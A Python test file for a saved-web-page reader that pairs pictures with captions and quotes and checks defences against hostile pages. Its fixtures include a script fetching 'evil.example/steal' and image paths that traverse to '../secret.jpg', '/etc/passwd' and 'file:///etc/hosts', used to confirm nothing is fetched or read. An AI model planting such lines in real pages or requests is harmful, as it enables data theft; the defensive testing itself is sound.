"""Saved web pages: pictures paired with their captions, quotes kept apart from commentary.

These test the page reader (`ingest/pages.py`) on a page saved "complete" with real
pictures (scanmaker); it is not yet wired into `archive-ingest run` (issue 16, item 2).
"""

from __future__ import annotations

from pathlib import Path

from archive_ingest.ingest.pages import read_saved_page, split_quotes
from archive_ingest.record import PhotoDate
from scanmaker import make_scan

PAGE = """<!DOCTYPE html>
<!-- saved from url=(0047)https://koryogroup.example/blog/soviet-memorials -->
<html><head><title>Soviet memorials in the DPRK</title>
<meta property="article:published_time" content="2019-06-12T09:00:00+00:00">
<script>fetch('https://evil.example/steal')</script></head>
<body>
<figure><img src="post_files/one.jpg" alt="Image may contain: outdoor">
<figcaption>‘The monument to Soviet soldiers in Chongjin, August 1945.’ The monument
was later moved to the hill above the port.</figcaption></figure>
<img src="./post_files/two.jpg">
<p>«Могила советского воина в Вонсане, в мае 1978 года». Koryo Tours visited the
cemetery in the late 1970's as well.</p>
<img src="post_files/three.jpg" alt="Wreath laying, the late 1970's">
<img src="https://cdn.example/not-saved.jpg">
</body></html>
"""


def saved_page(inbox: Path) -> Path:
    for name in ("one", "two", "three"):
        make_scan(inbox / "post_files" / f"{name}.jpg", [name.upper()], font_px=40)
    page = inbox / "post.html"
    page.write_text(PAGE, encoding="utf-8")
    return page


def test_each_saved_picture_gets_its_caption_quote_commentary_and_date(tmp_path: Path) -> None:
    saved_page(tmp_path)
    page = read_saved_page(tmp_path, "post.html")
    assert page.problems == []
    assert page.title == "Soviet memorials in the DPRK"
    assert page.url == "https://koryogroup.example/blog/soviet-memorials"
    assert page.date == "2019-06-12T09:00:00+00:00"
    assert page.linked == ["https://cdn.example/not-saved.jpg"]  # reported, not fetched
    one, two, three = page.pictures
    assert (one.image, one.caption_from) == ("post_files/one.jpg", "figcaption")
    assert one.quote == "The monument to Soviet soldiers in Chongjin, August 1945."
    assert one.commentary == "The monument was later moved to the hill above the port"
    assert one.date == PhotoDate("1945-08", "month", "caption")
    assert (two.image, two.caption_from) == ("post_files/two.jpg", "paragraph")
    assert two.quote == "Могила советского воина в Вонсане, в мае 1978 года"
    assert two.commentary == "Koryo Tours visited the cemetery in the late 1970's as well"
    assert two.date == PhotoDate("1978-05", "month", "caption")
    assert (three.caption, three.caption_from) == ("Wreath laying, the late 1970's", "alt")
    assert three.quote is None  # the apostrophe opens no quote
    assert three.date == PhotoDate("197x", "decade", "caption")


def test_quotes_in_every_style_are_kept_apart() -> None:
    assert split_quotes('"Victory Day, 2021." Laid by the staff.') == ("Victory Day, 2021.", "Laid by the staff")
    assert split_quotes("“A” and „B“ then «C»") == ("A B C", "and then")
    assert split_quotes("No quotes here.") == (None, "No quotes here")


def test_a_hostile_page_reads_nothing_outside_its_folder_and_fetches_nothing(tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (tmp_path / "secret.jpg").write_bytes(b"outside the inbox")
    make_scan(inbox / "ok_files" / "a.jpg", ["A"], font_px=40)
    huge = "data:image/png;base64," + "A" * 2_000_000
    many = "".join(f'<img src="ok_files/missing{i}.jpg">' for i in range(3000))
    (inbox / "bad.html").write_text(
        f'<img src="../secret.jpg"><img src="/etc/passwd"><img src="{huge}">'
        f'<img src="ok_files/a.jpg" title="Kept"><img src="file:///etc/hosts">{many}',
        encoding="utf-8",
    )
    page = read_saved_page(inbox, "bad.html", max_pictures=10)
    assert [p.image for p in page.pictures] == ["ok_files/a.jpg"]
    assert page.pictures[0].caption == "Kept"
    assert page.linked == ["file:///etc/hosts"]
    assert all("\n" not in problem and len(problem) < 400 for problem in page.problems)
    joined = "\n".join(page.problems)
    assert "'../secret.jpg' lies outside the page's folder; not read" in joined
    assert "'/etc/passwd' lies outside the page's folder" in joined
    assert "inline data: picture (2,000,022 characters) skipped" in joined
    assert "3,005 pictures; only the first 10 are read" in joined


def test_an_oversized_page_is_refused_unread(tmp_path: Path) -> None:
    (tmp_path / "big.html").write_bytes(b"<p>" + b"x" * 2000)
    page = read_saved_page(tmp_path, "big.html", max_bytes=1000)
    assert page.pictures == [] and page.problems == ["big.html: over 1,000 bytes; page ignored"]
